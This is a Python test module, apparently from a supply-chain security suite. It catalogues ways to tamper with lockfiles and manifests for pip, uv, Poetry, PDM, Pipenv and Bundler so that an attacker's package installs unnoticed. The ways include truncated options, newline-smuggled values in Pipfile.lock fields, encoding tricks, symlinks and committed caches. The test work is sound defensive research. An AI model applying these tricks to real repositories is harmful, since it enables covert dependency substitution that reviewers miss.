"""Mechanisms that a person wrote down who had not seen the code: Python clients, and Bundler."""

import hashlib
import re
import subprocess
import sys
from collections.abc import Callable
from typing import Any

from tests.git import Git, repository
from tests.hostile_locks.clients import BUNDLER, PDM, PIP, PIPENV, POETRY, PYLOCK, UV
from tests.hostile_locks.mechanism import OUTSIDE, mechanism
from tests.hostile_locks.outside_tricks import into_folder
from tests.hostile_locks.relocked_tricks import python_folder
from tests.hostile_locks.scene import (
    EVIL_GEM,
    EVIL_SDIST,
    EVIL_WHEEL,
    GOOD_GEM,
    GOOD_SDIST,
    GOOD_WHEEL,
    NoChangeError,
    Scene,
    sha256,
)
from tests.hostile_locks.world import EVIL, GOOD, attack_later, gem, python_source, python_wheel, token
from tests.loopback import GemPackage, PypiFile, PypiProject

_GULL = python_wheel("gull", "1.0.0", EVIL)
_SPECIAL = python_wheel("kite", "1.1.0", EVIL, tag=f"cp{sys.version_info[0]}{sys.version_info[1]}-none-any")
_ASKED = f"gull==1.0.0 --hash=sha256:{sha256(_GULL.data)}"


def _lines(scene: Scene, *after: str) -> None:
    scene.write("requirements.txt", scene.lock + "".join(f"{line}\n" for line in after))


def _unpinned(scene: Scene, *before: str) -> None:
    """Leave the digests out, with lines before."""
    text = re.sub(r" --hash=sha256:[0-9a-f]+", "", scene.lock)
    scene.write("requirements.txt", "".join(f"{line}\n" for line in before) + text)


def _publish(scene: Scene, *files: PypiFile) -> None:
    scene.world.good.put_pypi(PypiProject(name="kite", files=(GOOD_WHEEL, *files)))


# requirements.txt


@mechanism("option-cut-short", PIP, idea=OUTSIDE)
def option_cut_short(scene: Scene) -> None:
    """Write the first letters of an option: pip takes them for the whole."""
    _unpinned(scene, f"--index {scene.world.evil.pypi_url}")


@mechanism("option-of-another-name", PIP, idea=OUTSIDE)
def option_of_another_name(scene: Scene) -> None:
    _unpinned(scene, f"--pypi-url={scene.world.evil.pypi_url}")


@mechanism("option-in-one-word", PIP, idea=OUTSIDE)
def option_in_one_word(scene: Scene) -> None:
    _unpinned(scene, f"-i{scene.world.evil.pypi_url}")


@mechanism("option-in-quotes", PIP, idea=OUTSIDE)
def option_in_quotes(scene: Scene) -> None:
    _unpinned(scene, f"--\"index\"-u'rl' '{scene.world.evil.pypi_url}'")


@mechanism("option-behind-spaces", PIP, idea=OUTSIDE)
def option_behind_spaces(scene: Scene) -> None:
    _unpinned(
        scene,
        f"\u00a0 --index-url\u3000{scene.world.evil.pypi_url}",
        f" \t --index-url {scene.world.evil.pypi_url}",
    )


@mechanism("file-cut-short", PIP, idea=OUTSIDE)
def file_cut_short(scene: Scene) -> None:
    """Read a file by the first letters of the option, from a file with an odd name."""
    scene.write("docs/picture.svg", f"{_ASKED}\n")
    _lines(scene, "--req docs/picture.svg")


@mechanism("file-in-one-word", PIP, idea=OUTSIDE)
def file_in_one_word(scene: Scene) -> None:
    scene.write("docs/picture.svg", f"{_ASKED}\n")
    _lines(scene, "-rdocs/picture.svg")


@mechanism("file-by-address", PIP, idea=OUTSIDE)
def file_by_address(scene: Scene) -> None:
    scene.write("docs/picture.svg", f"{_ASKED}\n")
    _lines(scene, f"-r file://{scene.folder}/docs/picture.svg")


@mechanism("file-behind-variable", PIP, idea=OUTSIDE)
def file_behind_variable(scene: Scene) -> None:
    """Name a file with a variable that every shell sets."""
    (scene.folder.parent / "home").mkdir(exist_ok=True)
    scene.write("docs/picture.svg", f"{_ASKED}\n")
    _lines(scene, "-r ${LANG}.txt")
    scene.write("C.UTF-8.txt", f"{_ASKED}\n")


@mechanism("digest-cut-short", PIP, idea=OUTSIDE)
def digest_cut_short(scene: Scene) -> None:
    """Add a digest by the first letters of the option, for a more specific wheel of the attacker."""
    _publish(scene, _SPECIAL)
    scene.sub(
        r"(?<=^kite==1\.1\.0)( [^\n]+)", lambda found: f"{found[1]} --ha sha256:{sha256(_SPECIAL.data)}"
    )


@mechanism("digest-of-another-algorithm", PIP, idea=OUTSIDE)
def digest_of_another_algorithm(scene: Scene) -> None:
    """Add a sha512 of a more specific wheel of the attacker."""
    _publish(scene, _SPECIAL)
    found = hashlib.sha512(_SPECIAL.data).hexdigest()
    scene.sub(r"(?<=^kite==1\.1\.0)( [^\n]+)", lambda row: f"{row[1]} --hash=sha512:{found}")


@mechanism("comment-takes-line", PIP, idea=OUTSIDE)
def comment_takes_line(scene: Scene) -> None:
    """End a comment behind a requirement with a backslash: pip takes the next line for a part of it."""
    attack_later(scene.world)
    scene.write("requirements.txt", "fleet==2.0.0 # the fleet \\\nkite==1.1.0\n")


@mechanism("bare-archive-name", PIP, idea=OUTSIDE)
def bare_archive_name(scene: Scene) -> None:
    """Name an archive in the folder itself, without a dot and slash."""
    scene.write(EVIL_WHEEL.filename, EVIL_WHEEL.data)
    scene.sub(r"^kite==[^\n]+", f"{EVIL_WHEEL.filename} --hash=sha256:{sha256(EVIL_WHEEL.data)}")


@mechanism("address-in-one-word", PIP, idea=OUTSIDE)
def address_in_one_word(scene: Scene) -> None:
    place = scene.world.evil.pypi_file_url(EVIL_WHEEL)
    scene.sub(r"^kite==[^\n]+", f"kite@{place}#sha256={sha256(EVIL_WHEEL.data)}")


@mechanism("project-itself", PIP, idea=OUTSIDE, settings_file="pyproject.toml")
def project_itself(scene: Scene) -> None:
    """Ask for the project's own folder, whose metadata asks for more."""
    for path, text in python_source("app", "1.0.0", GOOD).items():
        scene.write(
            path, text.replace("\\nVersion: {VERSION}\\n", "\\nVersion: {VERSION}\\nRequires-Dist: gull\\n")
        )
    _unpinned(scene)
    _lines(scene, ".")


@mechanism("local-version", PIP, idea=OUTSIDE)
def local_version(scene: Scene) -> None:
    """Publish a local version of the release that the line names."""
    _publish(scene, python_wheel("kite", "1.1.0+cpu", EVIL))
    _unpinned(scene)


@mechanism("any-version-below", PIP, idea=OUTSIDE)
def any_version_below(scene: Scene) -> None:
    attack_later(scene.world)
    scene.write("requirements.txt", "fleet==2.0.0\nkite==1.*\n")


@mechanism("two-requirements", PIP, idea=OUTSIDE)
def two_requirements(scene: Scene) -> None:
    """Ask for the package twice, with markers of which the other one holds."""
    place = scene.world.evil.pypi_file_url(EVIL_WHEEL)
    _unpinned(scene)
    scene.sub(
        r"^kite==1\.1\.0$", f'kite==1.1.0 ; python_version < "3"\nkite @ {place} ; python_version >= "3"'
    )


@mechanism("local-git", PIP, idea=OUTSIDE)
def pip_local_git(scene: Scene) -> None:
    git = repository(scene.folder.parent / "kite-git")
    for path, text in python_source("kite", "1.1.0", EVIL).items():
        (git.folder / path).write_text(text)
    commit = git.commit()
    _unpinned(scene)
    scene.sub(r"^kite==[^\n]+", f"kite @ git+file://{git.folder}@{commit}")


@mechanism("sixteen-bits", PIP, idea=OUTSIDE)
def sixteen_bits(scene: Scene) -> None:
    """Write the file in UTF-16, which pip reads by its mark."""
    scene.write("requirements.txt", f"{scene.lock}{_ASKED}\n".encode("utf-16"))


@mechanism("marked-bytes", PIP, idea=OUTSIDE)
def marked_bytes(scene: Scene) -> None:
    scene.write("requirements.txt", f"\ufeff{_ASKED}\n{scene.lock}")


@mechanism("next-line-in-comment", PIP, idea=OUTSIDE)
def next_line_in_comment(scene: Scene) -> None:
    """Declare Latin-1, in which one byte of a comment breaks the line."""
    text = f"# coding: latin-1\n{scene.lock}# caf\u0085{_ASKED}\n"
    scene.write("requirements.txt", text.encode("latin-1"))


@mechanism("group-separator-in-comment", PIP, idea=OUTSIDE)
def group_separator_in_comment(scene: Scene) -> None:
    _lines(scene, f"# note\x1d{_ASKED}")


@mechanism("lock-is-a-link", PIP, idea=OUTSIDE)
def lock_is_a_link(scene: Scene) -> None:
    scene.write("docs/picture.svg", f"{scene.lock}{_ASKED}\n")
    path = scene.folder / scene.client.lock
    path.unlink()
    path.symlink_to("docs/picture.svg")


# pyproject.toml and the files beside it


def _append(scene: Scene, text: str) -> None:
    before = (scene.folder / "pyproject.toml").read_text()
    scene.write("pyproject.toml", f"{before}\n{text}")


@mechanism("manifest-is-a-link", UV, POETRY, PDM, idea=OUTSIDE)
def manifest_is_a_link(scene: Scene) -> None:
    scene.replace('"kite>=1.0.0,<2"', '"kite>=1.0.0,<2", "gull>=1"', "pyproject.toml")
    path = scene.folder / "pyproject.toml"
    scene.write("docs/picture.svg", path.read_bytes())
    path.unlink()
    path.symlink_to("docs/picture.svg")


@mechanism("overrides-in-manifest", UV, PDM, idea=OUTSIDE, settings_file="pyproject.toml")
def overrides_in_manifest(scene: Scene) -> None:
    place = scene.world.evil.pypi_file_url(EVIL_WHEEL)
    if scene.format == PDM:
        _append(scene, f'[tool.pdm.resolution.overrides]\nkite = "{place}"\n')
    else:
        scene.replace(
            "[tool.uv]\n", f'[tool.uv]\noverride-dependencies = ["kite @ {place}"]\n', "pyproject.toml"
        )


@mechanism("metadata-in-manifest", UV, idea=OUTSIDE, settings_file="pyproject.toml")
def metadata_in_manifest(scene: Scene) -> None:
    """Say in the manifest what a release needs."""
    _append(
        scene,
        '[[tool.uv.dependency-metadata]]\nname = "fleet"\nversion = "2.0.0"\nrequires-dist = ["kite", "gull"]\n',
    )


@mechanism("index-in-manifest", UV, PDM, idea=OUTSIDE, settings_file="pyproject.toml")
def index_in_manifest(scene: Scene) -> None:
    scene.replace(scene.world.good.pypi_url, scene.world.evil.pypi_url, "pyproject.toml")


@mechanism("default-groups", UV, PDM, idea=OUTSIDE)
def groups_in_manifest(scene: Scene) -> None:
    """Ask for more in a dependency group that is included in the one that is installed by default."""
    _append(scene, '[dependency-groups]\ndev = [{include-group = "more"}]\nmore = ["gull"]\n')


@mechanism("source-build-in-settings", UV, idea=OUTSIDE, settings_file="pyproject.toml")
def source_build(scene: Scene) -> None:
    """Have the sdist built in place of the wheel; the lock's row for the sdist is the attacker's."""
    _publish(scene, EVIL_SDIST)
    scene.replace("[tool.uv]\n", '[tool.uv]\nno-binary-package = ["kite"]\n', "pyproject.toml")
    scene.replace(sha256(GOOD_SDIST.data), sha256(EVIL_SDIST.data))
    good, evil = scene.world.good.pypi_file_url(GOOD_SDIST), scene.world.good.pypi_file_url(EVIL_SDIST)
    scene.replace(good, evil)
    scene.write("uv.lock", re.sub(r", size = \d+", "", scene.lock))


@mechanism("source-build-in-settings", POETRY, idea=OUTSIDE, settings_file="poetry.toml")
def poetry_source_build(scene: Scene) -> None:
    _publish(scene, EVIL_SDIST)
    scene.write("poetry.toml", '[installer]\nno-binary = ["kite"]\n')
    scene.replace(sha256(GOOD_SDIST.data), sha256(EVIL_SDIST.data))


@mechanism("source-build-by-setting-alone", UV, POETRY, idea=OUTSIDE, settings_file=".toml")
def source_build_by_setting_alone(scene: Scene) -> None:
    """Change the setting in a project whose lock has a bad sdist already, that nobody built."""
    if scene.format == UV:
        source_build(scene)
        text = (scene.folder / "pyproject.toml").read_text()
        scene.write("pyproject.toml", text.replace('no-binary-package = ["kite"]\n', ""))
        Git(scene.folder)("commit", "--all", "--message", "lock")
        scene.write("pyproject.toml", text)
    else:
        poetry_source_build(scene)
        Git(scene.folder)("add", "poetry.lock")
        Git(scene.folder)("commit", "--message", "lock")


@mechanism("cache-committed", UV, idea=OUTSIDE, settings_file="pyproject.toml")
def cache_committed(scene: Scene) -> None:
    """Keep uv's cache in the repository, with the attacker's file in what it unpacked."""
    scene.replace("[tool.uv]\n", '[tool.uv]\ncache-dir = "cache"\n', "pyproject.toml")
    scene.client.prepare(scene.folder)
    done = scene.client.run(("sync", "--frozen"), scene.folder, scene.world)
    found = list((scene.folder / "cache").rglob("kite.py"))
    if done.code or not found:
        raise NoChangeError(done.out)
    for path in found:
        path.unlink()
        path.write_text(f"# {token(EVIL, 'kite', '1.1.0')}\n")
    subprocess.run(("rm", "-rf", str(scene.folder / ".venv")), check=True)
    Git(scene.folder)("add", "--force", "cache")


@mechanism("environment-committed", UV, POETRY, PDM, PIPENV, idea=OUTSIDE, settings_file=".venv")
def environment_committed(scene: Scene) -> None:
    """Commit an environment in which the attacker's file is called the locked release."""
    site = f".venv/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    scene.write(f"{site}/kite.py", f"# {token(EVIL, 'kite', '1.1.0')}\n")
    info = f"{site}/kite-1.1.0.dist-info"
    scene.write(f"{info}/METADATA", "Metadata-Version: 2.1\nName: kite\nVersion: 1.1.0\n")
    scene.write(f"{info}/RECORD", "kite.py,,\n")
    scene.write(f"{info}/INSTALLER", "uv")
    scene.write(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    Git(scene.folder)("add", "--force", ".venv")


@mechanism("root-has-a-builder", UV, idea=OUTSIDE, settings_file="pyproject.toml")
def root_has_a_builder(scene: Scene) -> None:
    """Make the project a package that its own program builds, with the attacker's file inside."""
    backend = python_source("app", "1.0.0", EVIL)["backend.py"].replace('f"{NAME}.py"', '"kite.py"')
    scene.write("backend.py", backend)
    scene.write("kite.py", f"# {token(EVIL, 'kite', '1.1.0')}\n")
    scene.replace("package = false\n", "package = true\n", "pyproject.toml")
    _append(scene, '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n')


@mechanism("asked-member", UV, idea=OUTSIDE, in_place="parts/kite", settings_file="parts/kite")
def asked_member(scene: Scene) -> None:
    python_folder(scene, "parts/kite")
    _append(
        scene,
        '[tool.uv.workspace]\nmembers = ["parts/*"]\n\n[tool.uv.sources]\nkite = { workspace = true }\n',
    )
    scene.relock()


@mechanism("archives-in-settings", UV, idea=OUTSIDE, settings_file="uv.toml")
def settings_file_beside(scene: Scene) -> None:
    """Add a uv.toml that finds archives in a folder: it takes the place of `[tool.uv]`."""
    scene.write(f"v/{EVIL_WHEEL.filename}", EVIL_WHEEL.data)
    fleet = python_wheel("fleet", "2.0.0", "good")
    scene.write(f"v/{fleet.filename}", fleet.data)
    scene.write("uv.toml", 'no-index = true\nfind-links = ["v"]\n')


@mechanism("old-files-table", POETRY, idea=OUTSIDE)
def old_files_table(scene: Scene) -> None:
    """Give the files in the table of older locks, and the honest ones in the entry."""
    _publish(scene, GOOD_SDIST, _SPECIAL)
    row = f'[metadata.files]\nkite = [{{file = "{_SPECIAL.filename}", hash = "sha256:{sha256(_SPECIAL.data)}"}}]\nfleet = []\n'
    scene.write("poetry.lock", f"{scene.lock}\n{row}")


@mechanism("old-files-table-alone", POETRY, idea=OUTSIDE)
def old_files_table_alone(scene: Scene) -> None:
    _publish(scene, GOOD_SDIST, _SPECIAL)
    start = scene.lock.index('name = "kite"')
    head, tail = (
        scene.lock[:start],
        re.sub(r"files = \[.*?\n\]\n", "", scene.lock[start:], count=1, flags=re.DOTALL),
    )
    row = f'[metadata.files]\nkite = [{{file = "{_SPECIAL.filename}", hash = "sha256:{sha256(_SPECIAL.data)}"}}]\n'
    scene.write("poetry.lock", f"{head}{tail}\n{row}".replace('lock-version = "2.1"', 'lock-version = "1.1"'))


@mechanism("plugin", POETRY, idea=OUTSIDE, in_place=".poetry", settings_file="pyproject.toml")
def poetry_plugin(scene: Scene) -> None:
    _append(scene, '[tool.poetry.requires-plugins]\ngull = "1.0.0"\n')


@mechanism("plugin", PDM, idea=OUTSIDE, in_place=".pdm-plugins", settings_file="pyproject.toml")
def pdm_plugin(scene: Scene) -> None:
    scene.replace("[tool.pdm]\n", '[tool.pdm]\nplugins = ["gull"]\n', "pyproject.toml")


@mechanism("registry-in-settings", PDM, idea=OUTSIDE, settings_file="pdm.toml")
def pdm_registry(scene: Scene) -> None:
    """Name the index in pdm.toml alone, for a lock that both digests fit."""
    row = f'{{file = "{GOOD_WHEEL.filename}", hash = "sha256:'
    scene.replace(row, f'{row}{sha256(EVIL_WHEEL.data)}"}},\n    {row}')
    text = (scene.folder / "pyproject.toml").read_text()
    scene.write("pyproject.toml", text[: text.index("[[tool.pdm.source]]")])
    scene.write("pdm.toml", f'[pypi]\nurl = "{scene.world.evil.pypi_url}"\n')


@mechanism("other-lock-format", PDM, idea=OUTSIDE, settings_file="pdm.toml")
def other_lock_format(scene: Scene) -> None:
    """Have pdm read pylock.toml in place of pdm.lock."""
    place = scene.world.good.pypi_file_url(_GULL)
    scene.write("pdm.toml", '[lock]\nformat = "pylock"\n')
    scene.write(
        "pylock.toml",
        'lock-version = "1.0"\ncreated-by = "pdm"\nrequires-python = ">=3.11"\n\n[[packages]]\nname = "gull"\nversion = "1.0.0"\n'
        f'wheels = [{{ name = "{_GULL.filename}", url = "{place}", hashes = {{ sha256 = "{sha256(_GULL.data)}" }} }}]\n',
    )


@mechanism("local-folder", PDM, idea=OUTSIDE)
def pdm_folder(scene: Scene) -> None:
    python_folder(scene, "v/kite")
    scene.sub(
        r'(?<=name = "kite"\nversion = "1\.1\.0"\n).*\Z',
        'path = "./v/kite"\nsummary = ""\ngroups = ["default"]\n',
    )


@mechanism("old-table-of-groups", UV, PDM, POETRY, idea=OUTSIDE)
def old_table_of_groups(scene: Scene) -> None:
    """Ask for more in the table that the client had before dependency groups."""
    tables = {
        UV: '[tool.uv]\ndev-dependencies = ["gull"]\n',
        PDM: '[tool.pdm.dev-dependencies]\ntest = ["gull"]\n',
        POETRY: '[tool.poetry.dev-dependencies]\ngull = "*"\n',
    }
    if scene.format == UV:
        scene.replace("[tool.uv]\n", tables[UV], "pyproject.toml")
    else:
        _append(scene, tables[scene.format])


@mechanism("requests-in-another-file", UV, idea=OUTSIDE)
def requests_in_another_file(scene: Scene) -> None:
    """Change a file from which setuptools reads what the project asks for; a builder of the project stands in for it."""
    source = python_source("app", "1.0.0", GOOD)
    backend = source["backend.py"].replace("\\nVersion: {VERSION}\\n", "\\nVersion: {VERSION}\\n{asked}")
    read = 'asked = "".join(f"Requires-Dist: {line}" for line in open("asked.txt"))\n'
    scene.write("backend.py", read + backend)
    scene.write("app.py", source["app.py"])
    scene.write("asked.txt", "fleet\nkite\n")
    scene.sub(r"dependencies = [^\n]+\n", 'dynamic = ["dependencies"]\n', "pyproject.toml")
    scene.replace("package = false\n", "package = true\n", "pyproject.toml")
    _append(scene, '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n')
    _append(scene, '[tool.setuptools.dynamic]\ndependencies = {file = ["asked.txt"]}\n')
    scene.relock()
    Git(scene.folder)("add", "--all", ".")
    Git(scene.folder)("commit", "--message", "dynamic")
    scene.write("asked.txt", "fleet\nkite\ngull\n")


@mechanism("parent-takes-project", UV, idea=OUTSIDE, words=("sync", "--directory", "app"))
def parent_takes_project(scene: Scene) -> None:
    """Make the folder above a project the root of a workspace: uv no longer reads the project's lock."""
    text = (scene.folder / "pyproject.toml").read_text()
    into_folder(scene)
    index = text[text.index("[[tool.uv.index]]") :]
    members = '[tool.uv]\npackage = false\n\n[tool.uv.workspace]\nmembers = ["app"]\n'
    scene.write(
        "pyproject.toml",
        f'[project]\nname = "top"\nversion = "1"\ndependencies = ["app"]\n\n{members}\n[tool.uv.sources]\napp = {{ workspace = true }}\n\n{index}',
    )
    attack_later(scene.world)


@mechanism(
    "lock-of-a-script", UV, idea=OUTSIDE, words=("sync", "--script", "tool.py", "--frozen", "--active")
)
def lock_of_a_script(scene: Scene) -> None:
    """Change the lock of a script."""
    index = scene.world.good.pypi_url
    text = f'# /// script\n# requires-python = ">=3.11"\n# dependencies = ["kite"]\n# [[tool.uv.index]]\n# url = "{index}"\n# default = true\n# ///\n'
    scene.write("tool.py", text)
    honest = scene.lock[scene.lock.index('[[package]]\nname = "kite"') :]
    top = 'version = 1\nrequires-python = ">=3.11"\n\n[manifest]\nrequirements = [{ name = "kite" }]\n\n'
    scene.write("tool.py.lock", f"{top}{honest}")
    Git(scene.folder)("add", "--all", ".")
    Git(scene.folder)("commit", "--message", "script")
    _publish(scene, GOOD_SDIST, _SPECIAL)
    row = (
        f'{{ url = "{scene.world.good.pypi_file_url(_SPECIAL)}", hash = "sha256:{sha256(_SPECIAL.data)}" }},'
    )
    scene.replace("wheels = [\n", f"wheels = [\n    {row}\n", "tool.py.lock")


# Pipfile.lock


def _kite(scene: Scene, change: Callable[[Any, Any], None]) -> None:
    scene.json(lambda document: change(document, document["default"]["kite"]))


@mechanism("option-behind-version", PIPENV, idea=OUTSIDE)
def option_behind_version(scene: Scene) -> None:
    """Write pip's options behind the version, which pipenv puts into a line for pip."""
    options = f"--index-url {scene.world.evil.pypi_url}"
    _kite(
        scene,
        lambda _, kite: kite.update(
            version=f"==1.1.0 {options}", hashes=[f"sha256:{sha256(EVIL_WHEEL.data)}"]
        ),
    )


@mechanism("line-behind-version", PIPENV, idea=OUTSIDE)
def line_behind_version(scene: Scene) -> None:
    _kite(scene, lambda _, kite: kite.update(version=f"==1.1.0\n{_ASKED}\n"))


@mechanism("line-behind-marker", PIPENV, idea=OUTSIDE)
def line_behind_marker(scene: Scene) -> None:
    """End the line of kite inside its marker, with its digest, and begin one of the attacker's."""
    marker = f"python_version >= '3' --hash=sha256:{sha256(GOOD_WHEEL.data)}\n{_ASKED}"
    _kite(scene, lambda _, kite: kite.update(markers=marker))


@mechanism("option-behind-marker", PIPENV, idea=OUTSIDE)
def option_behind_marker(scene: Scene) -> None:
    """Add the digest of a more specific wheel of the attacker behind a marker."""
    _publish(scene, GOOD_SDIST, _SPECIAL)
    marker = f"python_version >= '3' --hash=sha256:{sha256(_SPECIAL.data)}"
    _kite(scene, lambda _, kite: kite.update(markers=marker))


@mechanism("line-behind-name", PIPENV, idea=OUTSIDE)
def line_behind_name(scene: Scene) -> None:
    def change(document: Any) -> None:
        document["default"][f"{_ASKED}\nkite"] = document["default"].pop("kite")

    scene.json(change)


@mechanism("line-behind-digest", PIPENV, idea=OUTSIDE)
def line_behind_digest(scene: Scene) -> None:
    _kite(scene, lambda _, kite: kite["hashes"].append(f"{kite['hashes'][0]}\n{_ASKED}"))


@mechanism("source-behind-the-name", PIPENV, idea=OUTSIDE)
def source_behind_the_name(scene: Scene) -> None:
    def change(document: Any, kite: Any) -> None:
        document["_meta"]["sources"][0]["url"] = scene.world.evil.pypi_url
        kite["hashes"].append(f"sha256:{sha256(EVIL_WHEEL.data)}")

    _kite(scene, change)


@mechanism("no-digest", PIPENV, idea=OUTSIDE)
def pipenv_no_digest(scene: Scene) -> None:
    def change(document: Any, kite: Any) -> None:
        document["_meta"]["sources"].append(
            {"name": "more", "url": scene.world.evil.pypi_url, "verify_ssl": False}
        )
        kite.update(index="more")
        del kite["hashes"]

    _kite(scene, change)


@mechanism("local-folder", PIPENV, idea=OUTSIDE)
def pipenv_folder(scene: Scene) -> None:
    python_folder(scene, "v/kite")

    def change(document: Any) -> None:
        document["default"]["kite"] = {"path": "./v/kite"}

    scene.json(change)


@mechanism("registry-in-environment-file", PIPENV, idea=OUTSIDE, settings_file=".env")
def registry_in_environment_file(scene: Scene) -> None:
    """Name a mirror in `.env`, for a lock that both digests fit."""
    url = scene.world.evil.pypi_url
    scene.write(".env", f"PIPENV_PYPI_MIRROR={url}\nPIP_INDEX_URL={url}\n")
    _kite(scene, lambda _, kite: kite["hashes"].append(f"sha256:{sha256(EVIL_WHEEL.data)}"))


# pylock.toml


@mechanism("file-name-beside-address", PYLOCK, idea=OUTSIDE)
def file_name_beside_address(scene: Scene) -> None:
    """Name the honest file beside the address of another package."""
    scene.replace(
        f'url = "{scene.world.good.pypi_file_url(GOOD_WHEEL)}"',
        f'name = "{GOOD_WHEEL.filename}", url = "{scene.world.good.pypi_file_url(_GULL)}"',
    )
    scene.write(scene.client.lock, re.sub(r" size = \d+,", "", scene.lock))
    scene.replace(sha256(GOOD_WHEEL.data), sha256(_GULL.data))


@mechanism("second-algorithm", PYLOCK, idea=OUTSIDE)
def second_algorithm(scene: Scene) -> None:
    """Add the digest of the attacker's file by another algorithm."""
    digest = hashlib.sha512(EVIL_WHEEL.data).hexdigest()
    scene.replace(scene.world.good.pypi_file_url(GOOD_WHEEL), scene.world.evil.pypi_file_url(EVIL_WHEEL))
    scene.write(scene.client.lock, re.sub(r" size = \d+,", "", scene.lock))
    scene.replace(f'sha256 = "{sha256(GOOD_WHEEL.data)}"', f'sha512 = "{digest}"')


@mechanism("marker-of-groups", PYLOCK, idea=OUTSIDE)
def marker_of_groups(scene: Scene) -> None:
    place, digest = scene.world.good.pypi_file_url(_GULL), sha256(_GULL.data)
    block = (
        '\n[[packages]]\nname = "gull"\nversion = "1.0.0"\nmarker = "\'docs\' not in extras"\n'
        f'wheels = [{{ url = "{place}", hashes = {{ sha256 = "{digest}" }} }}]\n'
    )
    scene.write(scene.client.lock, scene.lock + block)


# Gemfile.lock


@mechanism("gemfile-of-the-other-name", BUNDLER, idea=OUTSIDE)
def gemfile_of_the_other_name(scene: Scene) -> None:
    """Add gems.rb and its lock: Bundler takes them in place of Gemfile."""
    scene.write("gems.rb", f'{(scene.folder / "Gemfile").read_text()}gem "gull"\n')
    text = scene.lock.replace("    kite (1.1.0)\n", "    gull (1.0.0)\n    kite (1.1.0)\n")
    text = re.sub(r"^CHECKSUMS\n.*?\n\n", "", text, flags=re.DOTALL | re.MULTILINE)
    scene.write("gems.locked", text.replace("  kite (~> 1.0)\n", "  gull\n  kite (~> 1.0)\n"))


@mechanism("gemfile-of-the-other-name-alone", BUNDLER, idea=OUTSIDE)
def gemfile_alone(scene: Scene) -> None:
    """Add gems.rb without a lock."""
    scene.write("gems.rb", f'{(scene.folder / "Gemfile").read_text()}gem "gull"\n')


@mechanism("installed-tree-committed", BUNDLER, idea=OUTSIDE, settings_file="installed")
def gems_committed(scene: Scene) -> None:
    """Commit the folder of gems that Bundler is configured to install into, with the attacker's file in it."""
    scene.write(".bundle/config", '---\nBUNDLE_PATH: "installed"\n')
    done = scene.client.run(scene.client.plain, scene.folder, scene.world)
    found = list((scene.folder / "installed").rglob("gems/kite-*/lib/kite.rb"))
    if done.code or not found:
        raise NoChangeError(done.out)
    for path in found:
        path.write_text(f"# {token(EVIL, 'kite', '1.1.0')}\n")
    Git(scene.folder)("add", "--force", "installed", ".bundle")


@mechanism("more-in-another-file", BUNDLER, idea=OUTSIDE, settings_file="Gemfile")
def more_in_another_file(scene: Scene) -> None:
    """Evaluate another file as part of the Gemfile."""
    scene.write("docs/picture.svg", 'gem "gull"\n')
    scene.write("Gemfile", f'{(scene.folder / "Gemfile").read_text()}eval_gemfile "docs/picture.svg"\n')


@mechanism("gemspec-asks", BUNDLER, idea=OUTSIDE, settings_file="app.gemspec")
def gemspec_asks(scene: Scene) -> None:
    scene.write(
        "app.gemspec",
        'Gem::Specification.new do |s|\n  s.name = "app"\n  s.version = "1.0.0"\n  s.summary = "x"\n'
        '  s.authors = ["ada"]\n  s.files = []\n  s.add_dependency "gull"\nend\n',
    )
    scene.write("Gemfile", f"{(scene.folder / 'Gemfile').read_text()}gemspec\n")


@mechanism("local-override", BUNDLER, idea=OUTSIDE, settings_file=".bundle/config", in_place="v/kite")
def local_override(scene: Scene) -> None:
    """Say where a git gem lies on this machine."""
    scene.write("v/kite/kite.gemspec", _SPEC)
    scene.write("v/kite/lib/kite.rb", f"# {token(EVIL, 'kite', '1.1.0')}\n")
    scene.write(".bundle/config", '---\nBUNDLE_LOCAL__KITE: "v/kite"\n')


@mechanism("manifest-is-a-link", BUNDLER, idea=OUTSIDE)
def gemfile_is_a_link(scene: Scene) -> None:
    scene.write("docs/picture.svg", f'{(scene.folder / "Gemfile").read_text()}gem "gull"\n')
    path = scene.folder / "Gemfile"
    path.unlink()
    path.symlink_to("docs/picture.svg")


@mechanism("lock-in-another-folder", BUNDLER, idea=OUTSIDE, settings_file=".bundle/config")
def lock_in_another_folder(scene: Scene) -> None:
    """Have Bundler read another lock."""
    scene.write(".bundle/config", '---\nBUNDLE_LOCKFILE: "docs/picture.svg"\n')
    scene.world.good.put_gem(GemPackage(name="kite", files=(GOOD_GEM, gem("kite", "1.1.5", EVIL))))
    scene.write(
        "docs/picture.svg",
        re.sub(r"^CHECKSUMS\n.*?\n\n", "", scene.lock, flags=re.DOTALL | re.MULTILINE).replace(
            "1.1.0", "1.1.5"
        ),
    )


@mechanism("cached-gem-with-bare-row", BUNDLER, idea=OUTSIDE)
def cached_gem_of_the_version(scene: Scene) -> None:
    """Ask for another release whose gem is committed where Bundler looks first."""
    scene.write("vendor/cache/kite-1.1.0.gem", EVIL_GEM.data)
    scene.sub(r"  kite \(1\.1\.0\) sha256=[0-9a-f]+\n", "  kite (1.1.0)\n")
    Git(scene.folder)("add", "--force", "vendor/cache")


_SPEC = """Gem::Specification.new do |s|
  s.name = "kite"
  s.version = "1.1.0"
  s.summary = "a gem"
  s.authors = ["ada"]
  s.files = ["lib/kite.rb"]
end
"""
